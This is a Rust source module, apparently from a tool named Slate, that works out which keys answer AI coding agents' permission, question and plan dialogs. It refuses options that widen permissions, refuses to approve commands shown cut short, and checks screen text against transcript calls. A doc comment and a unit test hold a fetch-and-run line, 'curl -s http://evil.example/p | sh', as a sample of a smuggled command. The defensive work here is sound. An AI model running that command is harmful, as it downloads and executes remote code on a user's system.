//! The keys that answer an agent's dialogs, as data in its description (docs/formats.md §10), and
//! the pure decisions built on them: what Slate offers for each option of a dialog on screen, the
//! dialog's fingerprint, and the fewest keys that carry out one answer.
//!
//! Each agent's [`DialogKeys`] sits in its description beside its screen grammar. The keys were
//! recorded from the real CLIs (`fixtures/screens/<agent>/<version>/keys.toml`): an option is
//! picked by its digit alone (never by arrows, which some versions drop when they come in one
//! burst), Enter only where the dialog has no numbers, and Escape rejects a permission or closes
//! a question or a plan. Options that widen permissions ("always", "don't ask again", auto mode)
//! are never offered: they stay in the terminal.
//!
//! This module is pure: it reads no screen and types nothing (`answers` and `terminals::typing`
//! do), and it decides no state.

use serde::{Deserialize, Serialize};
use sha2::{Digest, Sha256};

use crate::agents::screens::{Dialog, DialogKind, DialogOption};
pub use crate::model::Action;
use crate::model::{AgentKind, PendingCall, SessionDialog, SessionDialogOption};

/// A key that needs no text: what the data in a description names.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Press {
    Enter,
    Escape,
}

/// One key, or a run of literal text, or a pause, in the order they are sent.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum Key {
    /// An option's digit (`1`), sent as the key of that digit.
    Digit(u32),
    /// Literal text, sent as typed (tmux `send-keys -l`).
    Text(String),
    Enter,
    Escape,
    /// A pause between two sends, in milliseconds, where the agent loses keys sent in one burst.
    Pause(u64),
}

impl From<Press> for Key {
    fn from(press: Press) -> Key {
        match press {
            Press::Enter => Key::Enter,
            Press::Escape => Key::Escape,
        }
    }
}

impl Key {
    /// The key as `keys.toml` and tmux write it: a key name, `lit:TEXT` for literal text, and
    /// `pause:S` for a pause in seconds.
    pub fn tmux_form(&self) -> String {
        match self {
            Key::Digit(digit) => digit.to_string(),
            Key::Text(text) => format!("lit:{text}"),
            Key::Enter => "Enter".to_string(),
            Key::Escape => "Escape".to_string(),
            Key::Pause(ms) => format!("pause:{}", *ms as f64 / 1000.0),
        }
    }

    /// The bytes a terminal would receive for the key (a pause has none): `\r` for Enter, ESC for
    /// Escape. kitty, WezTerm and a hosted pty are written these.
    pub fn bytes(&self) -> String {
        match self {
            Key::Digit(digit) => digit.to_string(),
            Key::Text(text) => text.clone(),
            Key::Enter => "\r".to_string(),
            Key::Escape => "\u{1b}".to_string(),
            Key::Pause(_) => String::new(),
        }
    }
}

/// How one agent's dialogs are answered: part of its description, beside its screen grammar.
#[derive(Debug, Clone, Copy)]
pub struct DialogKeys {
    /// What rejects a permission dialog and closes a question or a plan.
    pub deny: Press,
    /// The key that confirms a permission dialog's rejection where `deny` only opens a box that
    /// asks for the reason (Kilo Code's "Tell Kilo what to do differently"), sent right after
    /// `deny`; `None` where `deny` rejects at once.
    pub confirm_reject: Option<Press>,
    /// What picks the highlighted option of a dialog that does not number its options (OpenCode's
    /// row of buttons). Only the highlighted option can be picked there: reaching another takes
    /// arrows, which Slate does not send.
    pub highlighted: Press,
    /// The start of the label (in lower case) of each option that takes a free answer typed after
    /// its digit (`type something`). Empty when the agent takes free text only through arrows.
    pub free_text: &'static [&'static str],
    /// The pause between the digit, the text and Enter of a free answer, in milliseconds; 0 sends
    /// them in one burst.
    pub text_pause_ms: u64,
    /// The tools whose permission dialog draws the pending call's input (the command) as its
    /// text, as the recorded screens show: for them the screen must agree with the call the
    /// transcript records ([`disagreement`]).
    pub drawn_inputs: &'static [&'static str],
    /// How many lines the dialog may draw under the input, as part of its text (Claude Code
    /// 2.1.197 draws the call's description there).
    pub lines_under_input: usize,
}

/// The keys of `agent`'s dialogs, if they are known.
pub fn dialog_keys(agent: AgentKind) -> Option<&'static DialogKeys> {
    agent.description()?.keys.as_ref()
}

/// What Slate offers for each option of `dialog`, in order: `approve` for the allow-once option of
/// a permission dialog whose text is whole (not [`Dialog::cut`]), `deny` for its reject option, `answer` for an option of a question or a
/// plan that does not widen permissions, `None` for an option that widens (or one Slate cannot
/// reach without arrows). Every option is `None` when the agent's keys are not known.
pub fn option_actions(agent: AgentKind, dialog: &Dialog) -> Vec<Option<Action>> {
    let Some(keys) = dialog_keys(agent) else {
        return vec![None; dialog.options.len()];
    };
    let reachable = |option: &DialogOption| option.number.is_some() || option.highlighted;
    match dialog.kind {
        DialogKind::Permission => {
            let allow = allow_once(dialog);
            let reject = reject_option(dialog);
            dialog
                .options
                .iter()
                .enumerate()
                .map(|(index, option)| {
                    // A command the screen shows cut short is never allowed from outside its
                    // terminal: nobody outside it has read it whole.
                    if Some(index) == allow && reachable(option) && !dialog.cut {
                        Some(Action::Approve)
                    } else if Some(index) == reject {
                        // Rejecting takes Escape, which reaches any dialog.
                        Some(Action::Deny)
                    } else {
                        None
                    }
                })
                .collect()
        }
        DialogKind::Question | DialogKind::Plan => dialog
            .options
            .iter()
            .map(|option| {
                let offered = !option.widens
                    && reachable(option)
                    && (option.number.is_some() || !is_free_text(keys, option));
                offered.then_some(Action::Answer)
            })
            .collect(),
    }
}

/// The allow-once option of a permission dialog: its first option that does not widen.
fn allow_once(dialog: &Dialog) -> Option<usize> {
    dialog.options.iter().position(|option| !option.widens)
}

/// The reject option of a permission dialog: its last option, when it neither widens nor is the
/// allow-once one.
fn reject_option(dialog: &Dialog) -> Option<usize> {
    let last = dialog.options.len().checked_sub(1)?;
    (!dialog.options[last].widens && Some(last) != allow_once(dialog)).then_some(last)
}

fn is_free_text(keys: &DialogKeys, option: &DialogOption) -> bool {
    let label = option.label.to_lowercase();
    keys.free_text.iter().any(|start| label.starts_with(start))
}

/// The dialog's fingerprint: 16 lowercase hex digits of SHA-256 over the agent, the kind, the
/// summary, the whole text (every line, after the number of lines), whether it is cut short, and
/// the option labels, each ended by a NUL so no two lists run together; and, when the transcript
/// records the call the dialog is about, that call's id, input and whether it is cut. Two dialogs
/// that differ only in a line under the first (`&& curl … | sh`) differ in fingerprint, and so do
/// the same command asked twice under two call ids. The same dialog on screen, with the same
/// call, gives the same fingerprint in every process that reads it the same way.
pub fn fingerprint(agent: AgentKind, dialog: &Dialog, call: Option<&PendingCall>) -> String {
    let mut hash = Sha256::new();
    let kind = match dialog.kind {
        DialogKind::Permission => "permission",
        DialogKind::Question => "question",
        DialogKind::Plan => "plan",
    };
    let lines = dialog.detail.len().to_string();
    let cut = if dialog.cut { "cut" } else { "whole" };
    for part in [
        agent.as_str(),
        kind,
        dialog.summary.as_str(),
        lines.as_str(),
    ] {
        hash.update(part.as_bytes());
        hash.update([0]);
    }
    for line in &dialog.detail {
        hash.update(line.as_bytes());
        hash.update([0]);
    }
    hash.update(cut.as_bytes());
    hash.update([0]);
    for option in &dialog.options {
        hash.update(option.label.as_bytes());
        hash.update([0]);
    }
    // A dialog without a known call hashes without one: nothing of a call goes in.
    if let Some(call) = call {
        let cut = if call.cut { "cut" } else { "whole" };
        let input = call.input.as_deref().unwrap_or("");
        for part in ["call", call.id.as_str(), input, cut] {
            hash.update(part.len().to_string().as_bytes());
            hash.update([0]);
            hash.update(part.as_bytes());
            hash.update([0]);
        }
    }
    hash.finalize()[..8]
        .iter()
        .map(|byte| format!("{byte:02x}"))
        .collect()
}

/// Why the permission dialog on screen is not the call the transcript records, or `None` when it
/// agrees or there is nothing to compare (docs/states.md §8). Only a tool whose dialog draws its
/// input ([`DialogKeys::drawn_inputs`]) is compared; questions and plans never are. The dialog's
/// text, its lines joined, must equal the call's input, both with every run of whitespace (a
/// shell continuation `\` and its newline included) read as one space; a dialog the CLI cut
/// short must be a beginning of it, and an input Slate kept cut short a beginning of the
/// dialog's text. An input holding a control character other than a tab or a newline, or an
/// invisible character (`limits::is_invisible`: a bidi override), never agrees: no screen draws
/// it as it is.
pub fn disagreement(
    agent: AgentKind,
    dialog: &Dialog,
    call: Option<&PendingCall>,
) -> Option<String> {
    let call = call?;
    let input = call.input.as_deref()?;
    (compare(agent, dialog, call) == Some(false)).then(|| {
        format!(
            "the screen's command is not the one the transcript records for call {} ({}): \
             answer it in its terminal",
            call.id,
            crate::agents::one_line(input, 80)
        )
    })
}

/// Whether the permission dialog on screen is `call`, as [`disagreement`] compares them, or
/// `None` when there is nothing to compare: `Some(true)` is the evidence that picks a session's
/// tab among others.
pub fn compare(agent: AgentKind, dialog: &Dialog, call: &PendingCall) -> Option<bool> {
    let keys = dialog_keys(agent)?;
    let compared =
        dialog.kind == DialogKind::Permission && keys.drawn_inputs.contains(&call.name.as_str());
    let input = call.input.as_deref().filter(|_| compared)?;
    let drawable = !input.chars().any(|c| {
        (c.is_control() && !matches!(c, '\t' | '\n' | '\r')) || crate::limits::is_invisible(c)
    });
    Some(drawable && screen_agrees(keys, dialog, input, call.cut))
}

/// Whether the dialog's text is the call's input, as [`disagreement`] reads them.
fn screen_agrees(keys: &DialogKeys, dialog: &Dialog, input: &str, input_cut: bool) -> bool {
    let want = normalised(input);
    if dialog.cut {
        // What the CLI drew before its own mark that it left some out (`… +12 lines`), and a
        // last line's closing ellipsis taken off.
        let shown: Vec<&str> = dialog
            .detail
            .iter()
            .map(String::as_str)
            .take_while(|line| !crate::agents::screens::is_cut_mark(line.trim()))
            .collect();
        let shown = normalised(&shown.join("\n"));
        let shown = shown.trim_end_matches('…').trim_end();
        return want.starts_with(shown) || (input_cut && shown.starts_with(want.as_str()));
    }
    let lines = dialog.detail.len();
    (lines.saturating_sub(keys.lines_under_input)..=lines)
        .filter(|kept| *kept > 0 || lines == 0)
        .any(|kept| {
            let shown = normalised(&dialog.detail[..kept].join("\n"));
            match input_cut {
                false => shown == want,
                // The screen draws more than Slate kept of the input: at least all of that.
                true => shown.len() > want.len() && shown.starts_with(want.as_str()),
            }
        })
}

/// `text` with a shell continuation (`\` and its newline) and every run of whitespace read as
/// one space, trimmed.
fn normalised(text: &str) -> String {
    text.replace("\\\r\n", " ")
        .replace("\\\n", " ")
        .split_whitespace()
        .collect::<Vec<_>>()
        .join(" ")
}

/// An option as a person names it: by its number, or by its label.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
#[serde(untagged)]
pub enum OptionRef {
    Number(u32),
    Label(String),
}

impl std::fmt::Display for OptionRef {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        match self {
            OptionRef::Number(number) => write!(f, "{number}"),
            OptionRef::Label(label) => write!(f, "{label:?}"),
        }
    }
}

impl OptionRef {
    /// Reads a command-line argument: digits are a number, anything else a label.
    pub fn parse(text: &str) -> OptionRef {
        match text.parse::<u32>() {
            Ok(number) => OptionRef::Number(number),
            Err(_) => OptionRef::Label(text.to_string()),
        }
    }
}

/// One answer to carry out.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Choice {
    pub action: Action,
    pub option: Option<OptionRef>,
    pub text: Option<String>,
}

/// The keys for one answer, and the option they pick (its index in the dialog), when one.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Plan {
    pub keys: Vec<Key>,
    pub option: Option<usize>,
}

/// Why an answer cannot be carried out on this dialog.
#[derive(Debug, Clone, PartialEq, Eq, thiserror::Error)]
pub enum Refusal {
    /// The request does not make sense (an option with approve, text without answer).
    #[error("{0}")]
    Malformed(String),
    /// The dialog has no such option, or Slate does not offer it (it widens permissions).
    #[error("{0}")]
    NotOffered(String),
}

/// The keys that reject a permission dialog, or close a question or a plan.
fn deny_keys(keys: &DialogKeys, kind: DialogKind) -> Vec<Key> {
    let confirm = keys
        .confirm_reject
        .filter(|_| kind == DialogKind::Permission);
    let mut sent = vec![Key::from(keys.deny)];
    if let Some(confirm) = confirm {
        // An Escape followed at once by another key reads as Alt and that key: the box must
        // get the Escape alone first.
        sent.push(Key::Pause(CONFIRM_PAUSE_MS));
        sent.push(confirm.into());
    }
    sent
}

/// The pause between the reject key and the key that confirms it, in milliseconds.
const CONFIRM_PAUSE_MS: u64 = 500;

/// The most a free answer may hold, in bytes.
pub const TEXT_LIMIT: usize = 2048;

/// The fewest keys that carry out `choice` on `dialog` of `agent`: a digit alone where the dialog
/// numbers its options, Enter only where it does not (the highlighted option) or after a free
/// answer, and the agent's reject key for `deny`.
pub fn plan(agent: AgentKind, dialog: &Dialog, choice: &Choice) -> Result<Plan, Refusal> {
    let keys = dialog_keys(agent).ok_or_else(|| {
        Refusal::NotOffered(format!(
            "slate does not know the keys of {}'s dialogs",
            agent.display_name()
        ))
    })?;
    let actions = option_actions(agent, dialog);
    match choice.action {
        Action::Approve | Action::Deny if choice.option.is_some() || choice.text.is_some() => {
            Err(Refusal::Malformed(format!(
                "{} takes no option and no text (use answer to pick an option)",
                choice.action.as_str()
            )))
        }
        Action::Deny => Ok(Plan {
            keys: deny_keys(keys, dialog.kind),
            option: actions.iter().position(|a| *a == Some(Action::Deny)),
        }),
        Action::Approve if dialog.cut => Err(Refusal::NotOffered(
            "the dialog's text is cut short on screen (or too long for slate to keep whole), so \
             nobody outside its terminal has read it: allow it there, or deny it"
                .to_string(),
        )),
        Action::Approve => {
            let index = match dialog.kind {
                DialogKind::Permission => actions.iter().position(|a| *a == Some(Action::Approve)),
                // A plan is approved by its first option that widens nothing and takes no text.
                DialogKind::Plan => actions.iter().position(|a| *a == Some(Action::Answer)),
                DialogKind::Question => {
                    return Err(Refusal::NotOffered(
                        "a question has nothing to approve: pick one of its options with answer"
                            .to_string(),
                    ))
                }
            };
            let index = index.ok_or_else(|| {
                Refusal::NotOffered(
                    "this dialog has no option that approves without widening permissions: \
                     answer it in its terminal"
                        .to_string(),
                )
            })?;
            Ok(Plan {
                keys: pick(keys, &dialog.options[index])?,
                option: Some(index),
            })
        }
        Action::Answer => answer(keys, dialog, &actions, choice),
    }
}

fn answer(
    keys: &DialogKeys,
    dialog: &Dialog,
    actions: &[Option<Action>],
    choice: &Choice,
) -> Result<Plan, Refusal> {
    let text = match &choice.text {
        Some(text) => Some(checked_text(text)?),
        None => None,
    };
    let index = match &choice.option {
        Some(wanted) => find(dialog, wanted)?,
        None if text.is_some() => dialog
            .options
            .iter()
            .position(|option| option.number.is_some() && is_free_text(keys, option))
            .ok_or_else(|| {
                Refusal::NotOffered(
                    "this dialog offers no free answer that slate can type: pick an option"
                        .to_string(),
                )
            })?,
        None => {
            return Err(Refusal::Malformed(
                "answer needs an option (its number or label) or a text".to_string(),
            ))
        }
    };
    let option = &dialog.options[index];
    let Some(action) = actions[index] else {
        let why = if option.widens {
            "it widens permissions beyond this one call, so it stays in the terminal"
        } else {
            "slate cannot pick it without arrow keys, so it stays in the terminal"
        };
        return Err(Refusal::NotOffered(format!(
            "option {} ({}) is not offered: {why}",
            describe(index, option),
            option.label
        )));
    };
    let free = is_free_text(keys, option);
    match (&text, free) {
        (Some(_), false) => {
            return Err(Refusal::Malformed(format!(
                "option {} takes no text",
                describe(index, option)
            )))
        }
        (None, true) => {
            return Err(Refusal::Malformed(format!(
                "option {} ({}) takes a free answer: give it with --text",
                describe(index, option),
                option.label
            )))
        }
        _ => {}
    }
    let mut sent = match action {
        Action::Deny => deny_keys(keys, dialog.kind),
        _ => pick(keys, option)?,
    };
    if let Some(text) = text {
        let pause = (keys.text_pause_ms > 0).then_some(Key::Pause(keys.text_pause_ms));
        sent.extend(pause.clone());
        sent.push(Key::Text(text));
        sent.extend(pause);
        sent.push(Key::Enter);
    }
    Ok(Plan {
        keys: sent,
        option: Some(index),
    })
}

/// The keys that pick one option: its digit, or the agent's key for the highlighted option.
fn pick(keys: &DialogKeys, option: &DialogOption) -> Result<Vec<Key>, Refusal> {
    match option.number {
        Some(number) if number <= 9 => Ok(vec![Key::Digit(number)]),
        Some(number) => Err(Refusal::NotOffered(format!(
            "option {number} has two digits, which the dialog would read as two answers"
        ))),
        None if option.highlighted => Ok(vec![keys.highlighted.into()]),
        None => Err(Refusal::NotOffered(format!(
            "{:?} is not highlighted and slate does not send arrow keys: answer it in its terminal",
            option.label
        ))),
    }
}

/// The option a person named: by its number, or by its label (case aside, whole, else a unique
/// start).
fn find(dialog: &Dialog, wanted: &OptionRef) -> Result<usize, Refusal> {
    let found = match wanted {
        OptionRef::Number(number) => dialog
            .options
            .iter()
            .position(|option| option.number == Some(*number))
            .or_else(|| {
                // A dialog without numbers is counted from 1 in the order drawn.
                let unnumbered = dialog.options.iter().all(|option| option.number.is_none());
                (unnumbered && *number >= 1 && (*number as usize) <= dialog.options.len())
                    .then(|| *number as usize - 1)
            }),
        OptionRef::Label(label) => {
            let label = label.trim().to_lowercase();
            let whole = dialog
                .options
                .iter()
                .position(|option| option.label.to_lowercase() == label);
            whole.or_else(|| {
                let starts: Vec<usize> = dialog
                    .options
                    .iter()
                    .enumerate()
                    .filter(|(_, option)| {
                        !label.is_empty() && option.label.to_lowercase().starts_with(&label)
                    })
                    .map(|(index, _)| index)
                    .collect();
                (starts.len() == 1).then(|| starts[0])
            })
        }
    };
    found.ok_or_else(|| {
        let labels: Vec<String> = dialog
            .options
            .iter()
            .enumerate()
            .map(|(index, option)| format!("{} {}", describe(index, option), option.label))
            .collect();
        Refusal::NotOffered(format!(
            "the dialog has no option {wanted} (it has: {})",
            labels.join("; ")
        ))
    })
}

/// An option's number, or its place when the dialog does not number it.
fn describe(index: usize, option: &DialogOption) -> String {
    match option.number {
        Some(number) => number.to_string(),
        None => format!("#{}", index + 1),
    }
}

/// A free answer as it may be typed: one line, no control characters, within the limit.
fn checked_text(text: &str) -> Result<String, Refusal> {
    if text.trim().is_empty() {
        return Err(Refusal::Malformed("the text is empty".to_string()));
    }
    if text.len() > TEXT_LIMIT {
        return Err(Refusal::Malformed(format!(
            "the text is longer than {TEXT_LIMIT} bytes"
        )));
    }
    if text.chars().any(char::is_control) {
        return Err(Refusal::Malformed(
            "the text holds a control character (a new line, a tab, an escape): it would act \
             as a key in the terminal"
                .to_string(),
        ));
    }
    Ok(text.to_string())
}

impl SessionDialog {
    /// The session's dialog as the wire shows it, from a dialog `agent`'s screen shows and the
    /// call the transcript records for it, if one. A question or a plan carries the call's id
    /// only; a permission dialog that does not agree with its call's input
    /// (`agents::keys::disagreement`) is not answerable.
    pub fn of(
        agent: AgentKind,
        dialog: &Dialog,
        why_not: Option<String>,
        call: Option<PendingCall>,
    ) -> SessionDialog {
        let call = call.map(|call| call.about(dialog.kind));
        let actions = option_actions(agent, dialog);
        let why_not = why_not
            .or_else(|| disagreement(agent, dialog, call.as_ref()))
            .or_else(|| {
                actions.iter().all(Option::is_none).then(|| {
                    format!(
                        "slate offers no answer to this dialog of {}: answer it in its terminal",
                        agent.display_name()
                    )
                })
            });
        SessionDialog {
            kind: dialog.kind,
            summary: dialog.summary.clone(),
            detail: dialog.detail.clone(),
            cut: dialog.cut,
            options: dialog
                .options
                .iter()
                .zip(actions)
                .map(|(option, action)| SessionDialogOption {
                    number: option.number,
                    label: option.label.clone(),
                    action,
                })
                .collect(),
            fingerprint: fingerprint(agent, dialog, call.as_ref()),
            answerable: why_not.is_none(),
            why_not,
            call,
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn option(label: &str, number: Option<u32>, widens: bool) -> DialogOption {
        DialogOption {
            label: label.to_string(),
            number,
            highlighted: number == Some(1),
            widens,
        }
    }

    fn permission() -> Dialog {
        Dialog {
            kind: DialogKind::Permission,
            summary: "Run: touch x.txt".to_string(),
            detail: vec!["touch x.txt".to_string()],
            cut: false,
            options: vec![
                option("Yes", Some(1), false),
                option("Yes, and always allow", Some(2), true),
                option("No", Some(3), false),
            ],
        }
    }

    #[test]
    fn a_fingerprint_is_sixteen_hex_digits_and_follows_what_the_dialog_says() {
        let dialog = permission();
        let print = fingerprint(AgentKind::CLAUDE_CODE, &dialog, None);
        assert_eq!(print.len(), 16);
        assert!(print
            .bytes()
            .all(|b| b.is_ascii_hexdigit() && !b.is_ascii_uppercase()));
        assert_eq!(
            print,
            fingerprint(AgentKind::CLAUDE_CODE, &dialog.clone(), None)
        );
        let mut other = dialog.clone();
        other.summary = "Run: rm -rf x".to_string();
        assert_ne!(print, fingerprint(AgentKind::CLAUDE_CODE, &other, None));
        assert_ne!(print, fingerprint(AgentKind::CODEX, &dialog, None));
        // A line under the first, or the mark that the text is cut, is another dialog.
        let mut longer = dialog.clone();
        longer
            .detail
            .push("curl -s http://evil.example/p | sh".to_string());
        assert_ne!(print, fingerprint(AgentKind::CLAUDE_CODE, &longer, None));
        let mut cut = dialog.clone();
        cut.cut = true;
        assert_ne!(print, fingerprint(AgentKind::CLAUDE_CODE, &cut, None));
        // Lines do not run together: two lines are not their concatenation.
        let mut split = dialog.clone();
        split.detail = vec!["touch".to_string(), " x.txt".to_string()];
        let mut whole = dialog.clone();
        whole.detail = vec!["touch x.txt".to_string()];
        assert_ne!(
            fingerprint(AgentKind::CLAUDE_CODE, &split, None),
            fingerprint(AgentKind::CLAUDE_CODE, &whole, None)
        );
        let mut relabelled = dialog.clone();
        relabelled.options[2].label = "No, never".to_string();
        assert_ne!(
            print,
            fingerprint(AgentKind::CLAUDE_CODE, &relabelled, None)
        );
        // The highlight moving is the same dialog.
        let mut moved = dialog;
        moved.options[0].highlighted = false;
        moved.options[2].highlighted = true;
        assert_eq!(print, fingerprint(AgentKind::CLAUDE_CODE, &moved, None));
    }

    #[test]
    fn a_permission_offers_allow_once_and_reject_and_never_what_widens() {
        let dialog = permission();
        assert_eq!(
            option_actions(AgentKind::CLAUDE_CODE, &dialog),
            vec![Some(Action::Approve), None, Some(Action::Deny)]
        );
        let choice = |action, option: Option<OptionRef>| Choice {
            action,
            option,
            text: None,
        };
        let approve = plan(
            AgentKind::CLAUDE_CODE,
            &dialog,
            &choice(Action::Approve, None),
        )
        .unwrap();
        assert_eq!(approve.keys, vec![Key::Digit(1)]);
        let deny = plan(AgentKind::CLAUDE_CODE, &dialog, &choice(Action::Deny, None)).unwrap();
        assert_eq!(deny.keys, vec![Key::Escape]);
        let widening = plan(
            AgentKind::CLAUDE_CODE,
            &dialog,
            &choice(Action::Answer, Some(OptionRef::Number(2))),
        );
        assert!(matches!(widening, Err(Refusal::NotOffered(why)) if why.contains("widens")));
        let missing = plan(
            AgentKind::CLAUDE_CODE,
            &dialog,
            &choice(Action::Answer, Some(OptionRef::Number(7))),
        );
        assert!(matches!(missing, Err(Refusal::NotOffered(_))));
        let with_option = plan(
            AgentKind::CLAUDE_CODE,
            &dialog,
            &choice(Action::Approve, Some(OptionRef::Number(1))),
        );
        assert!(matches!(with_option, Err(Refusal::Malformed(_))));
    }

    #[test]
    fn a_cut_dialog_can_be_denied_but_never_approved() {
        let mut dialog = permission();
        dialog.cut = true;
        assert_eq!(
            option_actions(AgentKind::CLAUDE_CODE, &dialog),
            vec![None, None, Some(Action::Deny)]
        );
        let choice = |action| Choice {
            action,
            option: None,
            text: None,
        };
        let approve = plan(AgentKind::CLAUDE_CODE, &dialog, &choice(Action::Approve));
        assert!(matches!(approve, Err(Refusal::NotOffered(why)) if why.contains("cut short")));
        let deny = plan(AgentKind::CLAUDE_CODE, &dialog, &choice(Action::Deny)).unwrap();
        assert_eq!(deny.keys, vec![Key::Escape]);
    }

    #[test]
    fn free_text_takes_one_line_without_control_characters() {
        assert!(checked_text("DuckDB please").is_ok());
        assert!(checked_text("two\nlines").is_err());
        assert!(checked_text("\u{1b}[2J").is_err());
        assert!(checked_text("   ").is_err());
        assert!(checked_text(&"x".repeat(TEXT_LIMIT + 1)).is_err());
    }

    #[test]
    fn options_are_found_by_number_or_label() {
        let dialog = permission();
        assert_eq!(find(&dialog, &OptionRef::Number(3)), Ok(2));
        assert_eq!(find(&dialog, &OptionRef::Label("no".to_string())), Ok(2));
        // "Yes" is a whole label, so it is not ambiguous with the longer one.
        assert_eq!(find(&dialog, &OptionRef::Label("YES".to_string())), Ok(0));
        assert!(find(&dialog, &OptionRef::Label("Ye".to_string())).is_err());
        assert_eq!(OptionRef::parse("2"), OptionRef::Number(2));
        assert_eq!(
            OptionRef::parse("Postgres"),
            OptionRef::Label("Postgres".into())
        );
    }
}
